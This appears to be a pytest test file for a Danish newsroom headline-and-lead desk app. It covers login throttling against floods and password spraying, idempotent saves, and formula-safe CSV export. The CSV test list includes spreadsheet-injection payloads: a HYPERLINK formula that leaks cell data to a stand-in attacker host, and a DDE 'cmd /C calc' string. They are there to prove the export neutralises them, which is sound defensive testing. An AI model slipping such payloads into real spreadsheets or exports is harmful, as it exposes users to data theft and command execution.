"""Issue 28 on the desk: throttled logins with the scrypt check off the event loop, an idempotent ``/save``,
formula-safe CSV from Historik, and one Danish line (never a traceback) for bad settings and a read-only
database."""

from __future__ import annotations

import asyncio
import csv
import json
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path

import gradio as gr
import httpx
import pytest
from test_app_handlers import WIRE

import app
from desk import auth, handlers
from desk.store import Choice, Store, StoreError, export_csv, export_jsonl
from desk.ui import build_demo, status_html
from summarizer import engines
from summarizer.engines import EngineInfo

ROOT = Path(__file__).resolve().parent.parent
USERS = {"mette": "rødgrød med fløde", "ole": "kl. 13.11 hver dag"}


# --------------------------------------------------------------------------- logins


class CountingVerify:
    """`auth.verify` counted, with the thread it ran on, optionally slowed down like a busy server."""

    def __init__(self, delay: float = 0.0) -> None:
        self.real, self.delay = auth.verify, delay
        self.calls = 0
        self.threads: set[int] = set()
        self._lock = threading.Lock()

    def __call__(self, password: str, stored: str) -> bool:
        with self._lock:
            self.calls += 1
            self.threads.add(threading.get_ident())
        if self.delay:
            time.sleep(self.delay)
        return self.real(password, stored)


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _hashes() -> dict[str, str]:
    return {user: auth.hash_password(password) for user, password in USERS.items()}


@contextmanager
def _serve(throttle: auth.Throttle) -> Iterator[str]:
    """A small Gradio app on 127.0.0.1 with the desk's login options (the guard and its middleware)."""

    def echo(text: str) -> str:
        return text

    with gr.Blocks(analytics_enabled=False) as demo:
        gr.api(echo, api_name="echo")
    port = _free_port()
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True,
                **auth.login_options(_hashes(), throttle))  # fmt: skip
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        demo.close()


@pytest.fixture
def counting(monkeypatch: pytest.MonkeyPatch) -> CountingVerify:
    counter = CountingVerify()
    monkeypatch.setattr(auth, "verify", counter)
    return counter


def _login(client: httpx.Client, url: str, user: str, password: str) -> int:
    return client.post(f"{url}/login", data={"username": user, "password": password}).status_code


def test_a_login_flood_is_refused_quickly_without_scrypt_and_another_user_still_gets_in(
    counting: CountingVerify,
) -> None:
    # Before: 200 wrong passwords at concurrency 8 ran scrypt 200 times (16.8 s), with no lockout.
    with _serve(auth.Throttle(per_user=5, per_address=20, base=60)) as url:
        counting.calls = 0
        with httpx.Client(timeout=30) as client, ThreadPoolExecutor(8) as pool:
            started = time.perf_counter()
            codes = list(pool.map(lambda n: _login(client, url, "mette", f"forkert {n}"), range(200)))
            elapsed = time.perf_counter() - started
            assert set(codes) == {400}
            assert counting.calls == 5  # the five free attempts; the other 195 never reached scrypt
            assert elapsed < 8, f"200 refused logins took {elapsed:.1f} s"
            # The flood locks the name it tried, not the other editors behind the same address.
            assert _login(client, url, "ole", USERS["ole"]) == 200
            # While locked, even the right password is refused without a check (it would tell a guesser).
            assert _login(client, url, "mette", USERS["mette"]) == 400
            assert counting.calls == 6


def test_password_spraying_from_one_address_locks_the_address(counting: CountingVerify) -> None:
    # The middleware gives the check the caller's address: many names from 127.0.0.1 lock 127.0.0.1.
    with _serve(auth.Throttle(per_user=5, per_address=6, base=60)) as url, httpx.Client(timeout=30) as client:
        assert [_login(client, url, f"navn{n}", "gæt") for n in range(10)] == [400] * 10
        assert counting.calls == 6
        assert _login(client, url, "ole", USERS["ole"]) == 400
        assert counting.calls == 6


def test_the_password_check_runs_in_a_thread_and_the_event_loop_stays_free(monkeypatch: pytest.MonkeyPatch) -> None:
    slow = CountingVerify(delay=0.4)  # scrypt on a busy server
    monkeypatch.setattr(auth, "verify", slow)
    guard = auth.LoginGuard(_hashes(), auth.Throttle(per_user=100, per_address=100), workers=2)
    assert asyncio.iscoroutinefunction(guard.check)  # so Gradio awaits it instead of calling it on the loop

    async def run() -> tuple[float, list[bool], int]:
        loop_thread = threading.get_ident()
        lag, done = 0.0, False

        async def heartbeat() -> None:
            nonlocal lag
            while not done:
                before = time.perf_counter()
                await asyncio.sleep(0.01)
                lag = max(lag, time.perf_counter() - before - 0.01)

        beat = asyncio.create_task(heartbeat())
        results = await asyncio.gather(*(guard.check(user, USERS[user]) for user in ["mette", "ole"] * 4))
        done = True
        await beat
        return lag, list(results), loop_thread

    lag, results, loop_thread = asyncio.run(run())
    guard.close()
    assert results == [True] * 8 and slow.calls == 8
    assert loop_thread not in slow.threads and len(slow.threads) <= 2  # the pool, never the loop
    assert lag < 0.2, f"the event loop stalled {lag:.2f} s during eight checks of 0.4 s"


def test_a_login_flood_does_not_hold_up_other_requests(monkeypatch: pytest.MonkeyPatch) -> None:
    # Before: scrypt ran on Gradio's event loop, so every request waited for the logins queued ahead of it.
    slow = CountingVerify(delay=0.5)
    monkeypatch.setattr(auth, "verify", slow)
    with _serve(auth.Throttle(per_user=100, per_address=100)) as url:
        with httpx.Client(timeout=30) as client, ThreadPoolExecutor(8) as pool:
            flood = [pool.submit(_login, client, url, f"navn{n}", "gæt") for n in range(8)]
            time.sleep(0.2)
            started = time.perf_counter()
            assert client.get(f"{url}/").status_code == 200
            waited = time.perf_counter() - started
            assert [f.result() for f in flood] == [400] * 8
        assert waited < 0.4, f"a page request waited {waited:.2f} s behind eight slow logins"


def test_the_throttle_doubles_the_lockout_caps_it_and_forgets(caplog: pytest.LogCaptureFixture) -> None:
    now = [1000.0]
    throttle = auth.Throttle(per_user=3, per_address=100, base=2, cap=20, forget=100, clock=lambda: now[0])

    def fail() -> None:
        assert throttle.admit("mette", "10.0.0.5") == 0
        throttle.done("mette", "10.0.0.5", False)

    for _ in range(3):
        fail()
    assert throttle.admit("mette", "10.0.0.5") == pytest.approx(2)  # the 3rd failure: 2 s
    now[0] += 2
    fail()
    assert throttle.admit("mette", "10.0.0.9") == pytest.approx(4)  # the name, from any address
    now[0] += 4
    fail()
    assert throttle.admit("mette", None) == pytest.approx(8)
    for _ in range(3):
        now[0] += 20
        fail()
    assert throttle.admit("mette", None) == pytest.approx(20)  # capped
    assert "locked for 20 s after 8 failed attempts" in caplog.text and "'mette'" in caplog.text
    now[0] += 121  # quiet longer than `forget`: a fresh start
    assert throttle.admit("mette", None) == 0
    throttle.done("mette", None, True)


def test_a_right_password_clears_the_name_and_a_burst_cannot_outrun_the_limit() -> None:
    throttle = auth.Throttle(per_user=3, per_address=100, base=60)
    for _ in range(2):
        throttle.admit("mette", "a")
        throttle.done("mette", "a", False)
    assert throttle.admit("mette", "a") == 0
    throttle.done("mette", "a", True)
    # Cleared: three fresh attempts may run at once, the fourth waits for them (pending counts).
    assert [throttle.admit("mette", "a") for _ in range(4)][:3] == [0, 0, 0]
    assert throttle.admit("mette", "a") > 0


def test_many_names_keep_the_throttle_table_bounded() -> None:
    throttle = auth.Throttle(max_keys=100)
    for n in range(1000):
        throttle.admit(f"navn{n}" * 100, None)
        throttle.done(f"navn{n}" * 100, None, False)
    assert len(throttle._counts) <= 100
    assert all(len(key[1]) <= 256 for key in throttle._counts)


def test_the_login_message_is_danish_and_mentions_the_wait() -> None:
    options = auth.login_options(_hashes())
    assert "log ind" in options["auth_message"] and "vente" in options["auth_message"]
    assert options["app_kwargs"]["middleware"][0].cls is auth.ClientAddress


# --------------------------------------------------------------------------- /save and Historik


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(tmp_path / "desk.sqlite3")


def _choice(key: str | None, user: str = "mette", headline: str = "Broen åbner i februar") -> Choice:
    text = "Broen åbner 24. februar kl. 13.11, oplyser Vejdirektoratet."
    return Choice(input_text=text, body=text, headline=headline, lead="Broen åbner 24. februar.", engine="lead",
                  user=user, idempotency_key=key)  # fmt: skip


def test_a_retried_save_with_the_same_key_is_stored_once(store: Store) -> None:
    first = store.save(_choice("k-1"))
    again = store.save(_choice("k-1", headline="Broen åbner i februar (igen)"))
    assert again.id == first.id and again.headline == "Broen åbner i februar" and store.count() == 1
    assert store.find_key("mette", " k-1 ").id == first.id and store.find_key("mette", "k-2") is None
    assert store.save(_choice("k-1", user="ole")).id != first.id  # a key is the user's own
    assert store.save(_choice(None)).id != store.save(_choice(None)).id  # no key: every save is kept
    assert store.save(_choice("")).idempotency_key is None
    assert store.count() == 5
    with pytest.raises(StoreError, match="Idempotensnøglen er på 201 tegn; højst 200"):
        store.save(_choice("x" * 201))


def test_concurrent_retries_with_one_key_store_one_row(store: Store) -> None:
    barrier = threading.Barrier(8)

    def save(_: int) -> int:
        other = Store(store.path)  # as if each retry came to a desk of its own
        barrier.wait()
        return other.save(_choice("samme-nøgle")).id

    with ThreadPoolExecutor(8) as pool:
        ids = set(pool.map(save, range(8)))
    assert len(ids) == 1 and store.count() == 1


def test_a_database_from_before_the_key_gets_the_column(tmp_path: Path) -> None:
    path = tmp_path / "gammel.sqlite3"
    old = sqlite3.connect(path)
    old.executescript(
        "CREATE TABLE choices (id INTEGER PRIMARY KEY, saved_at TEXT NOT NULL, user TEXT NOT NULL, "
        "text_hash TEXT NOT NULL, input_text TEXT NOT NULL, body TEXT NOT NULL, real_headline TEXT, real_lead TEXT, "
        "candidates TEXT NOT NULL, headline TEXT NOT NULL, headline_engine TEXT, headline_rank INTEGER, "
        "headline_edited INTEGER NOT NULL, lead TEXT NOT NULL, lead_engine TEXT, lead_edited INTEGER NOT NULL);"
        "INSERT INTO choices VALUES (1, '2025-01-01T00:00:00+00:00', 'ole', 'h', 't', 'b', NULL, NULL, '[]', "
        "'Gammel rubrik', NULL, NULL, 1, 'Gammelt lead.', NULL, 1);"
    )
    old.commit()
    old.close()
    store = Store(path)
    assert store.warning is None and store.get(1).headline == "Gammel rubrik"
    assert store.save(_choice("k")).id == store.save(_choice("k")).id == 2


def test_the_save_endpoint_takes_an_idempotency_key_and_a_retry_runs_no_engine(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    runs: list[str] = []
    real = handlers.summarise_desk
    monkeypatch.setattr(handlers, "summarise_desk", lambda text, *a, **k: runs.append(text) or real(text, *a, **k))
    demo = build_demo([EngineInfo("lead", True), EngineInfo("extractive", True)], [], None, [], store)
    save = next(fn.fn for fn in demo.fns.values() if fn.api_name == "save")
    first = save(WIRE, "lead", "Ældreplejen får 300 mio. kr.", "Kommunerne får flere penge.",
                 idempotency_key="b7e0c2")  # fmt: skip
    retry = save(WIRE, "lead", "Ældreplejen får 300 mio. kr.", "Kommunerne får flere penge.",
                 idempotency_key="b7e0c2")  # fmt: skip
    assert "error" not in first and retry == first and store.count() == 1 and len(runs) == 1
    assert store.get(first["id"]).idempotency_key == "b7e0c2" and first["user"] == "anonym"
    other = save(WIRE, "lead", "Ældreplejen får 300 mio. kr.", "Kommunerne får flere penge.")
    assert other["id"] != first["id"] and store.count() == 2


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Læs mere")', "=cmd|' /C calc'!A0", "+45 12 34 56 78",
            "-2 grader i nat", "@SUM(1+1)", "\tindrykket", "\rvognretur"]  # fmt: skip
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_historik_csv_neutralises_formula_cells_and_keeps_the_text(store: Store, tmp_path: Path) -> None:
    # Before: the cells were written as they came, so a spreadsheet ran them as formulas.
    for n, formula in enumerate(FORMULAS):
        store.save(Choice(input_text=formula, body=formula, headline=formula, lead=f"=1+{n}", engine="lead",
                          user="=ole"))  # fmt: skip
    with export_csv(store.recent(), tmp_path / "valg.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))  # CSV for Danish Excel
    stored = [store.get(n + 1) for n in range(len(FORMULAS))]
    for row, saved in zip(rows, stored, strict=True):
        for name, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (name, value)
        for name, value in (("title", saved.headline), ("summary", saved.lead), ("text", saved.body),
                            ("user", saved.user)):  # fmt: skip
            # Round trip: a formula-like cell reads back as the text behind one apostrophe, the rest as it was.
            assert row[name] == ("'" + value if value.startswith(FORMULA_STARTS) else value)
    assert sum(row["title"].startswith("'") for row in rows) == 5 and rows[5]["text"] == "'\tindrykket"
    assert rows[0]["id"] == "desk-1" and rows[0]["headline_edited"] == "ja"  # other cells unchanged
    # The JSONL is training data, not a spreadsheet: it keeps the text exactly.
    records = [json.loads(line) for line in export_jsonl(store.recent(), tmp_path / "valg.jsonl").open()]
    assert [r["title"] for r in records] == [s.headline for s in stored]


# --------------------------------------------------------------------------- start-up


@pytest.mark.parametrize(
    ("args", "env", "expected"),
    [
        (["--port", "99999"], {}, "--port 99999 er ikke et portnummer"),
        ([], {"DESK_PORT": "abc"}, "DESK_PORT=abc er ikke et portnummer"),
        ([], {"DESK_CONCURRENCY": "x"}, "DESK_CONCURRENCY=x er ikke et antal samtidige kørsler"),
        ([], {"DESK_MAX_UPLOAD_MB": "ti"}, "DESK_MAX_UPLOAD_MB=ti er ikke en uploadgrænse"),
        (["--max-upload-mb", "0"], {}, "--max-upload-mb 0 er ikke en uploadgrænse"),
    ],
)
def test_a_bad_setting_is_one_danish_line_and_exit_2(args: list[str], env: dict[str, str], expected: str) -> None:
    import os

    done = subprocess.run([sys.executable, "app.py", *args], cwd=ROOT, capture_output=True, text=True, timeout=60,
                          env={**os.environ, **env})  # fmt: skip
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.startswith(f"python app.py: {expected}") and done.stderr.count("\n") == 1


def test_numbers_from_flags_and_environment_are_converted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DESK_CONCURRENCY", "4")
    monkeypatch.setenv("DESK_MAX_UPLOAD_MB", "2,5")
    args = app.parse_args(["--port", "8080"])
    assert (args.port, args.concurrency, args.max_upload_mb) == (8080, 4, 2.5)


def test_the_auth_command_without_a_terminal_is_one_danish_line(tmp_path: Path) -> None:
    # A new session has no controlling terminal: getpass would fall back to stdin and die on EOF.
    done = subprocess.run([sys.executable, "-m", "desk.auth", str(tmp_path / "F"), "u"], cwd=ROOT, timeout=60,
                          stdin=subprocess.DEVNULL, capture_output=True, text=True, start_new_session=True)  # fmt: skip
    assert done.returncode == 2 and "Traceback" not in done.stderr and done.stderr.count("\n") == 1
    assert "ingen terminal" in done.stderr and "--password-stdin" in done.stderr
    assert not (tmp_path / "F").exists()


def _read_only(path: Path) -> None:
    """Make an SQLite file read-only for SQLite itself (file modes do not stop root): a write-format
    version above 2 in the header is SQLite's own "open, but read only"."""
    data = bytearray(path.read_bytes())
    data[18] = 3
    path.write_bytes(bytes(data))


def test_a_read_only_database_is_a_warning_at_start_not_at_the_first_save(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "desk.sqlite3"
    first = Store(path)
    first.save(_choice(None))
    first.close()
    _read_only(path)
    store = Store(path)
    assert store.warning and "kan ikke skrives" in store.warning and "Gem valg" in store.warning
    assert store.count() == 1 and store.recent()[0].headline == "Broen åbner i februar"  # Historik still reads
    with pytest.raises(StoreError, match="kan ikke skrives; dit valg er ikke gemt"):
        store.save(_choice(None))
    assert store.warning in status_html([EngineInfo("lead", True)], None, store.warning)

    launched: list[dict[str, object]] = []
    monkeypatch.setattr(gr.Blocks, "launch", lambda self, **kwargs: launched.append(kwargs))
    monkeypatch.setattr(engines, "engine_status", lambda *a, **k: [EngineInfo("lead", True)])
    assert app.main(["--db", str(path), "--port", str(_free_port())]) == 0 and launched
    captured = capsys.readouterr()
    warning = [line for line in captured.err.splitlines() if "advarsel" in line]
    assert len(warning) == 1 and "kan ikke skrives" in warning[0] and "Traceback" not in captured.err
    assert "(1 gemt valg, skrivebeskyttet)" in captured.out


def test_the_desk_passes_the_throttled_login_to_gradio(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    users = tmp_path / "brugere.txt"
    auth.set_user(users, "mette", USERS["mette"])
    launched: list[dict[str, object]] = []
    monkeypatch.setattr(gr.Blocks, "launch", lambda self, **kwargs: launched.append(kwargs))
    monkeypatch.setattr(engines, "engine_status", lambda *a, **k: [EngineInfo("lead", True)])
    assert app.main(["--auth", str(users), "--db", str(tmp_path / "d.db")]) == 0
    options = launched[0]
    assert asyncio.iscoroutinefunction(options["auth"]) and "vente" in str(options["auth_message"])
    assert options["app_kwargs"]["middleware"][0].cls is auth.ClientAddress  # type: ignore[index]
    assert "Traceback" not in capsys.readouterr().err
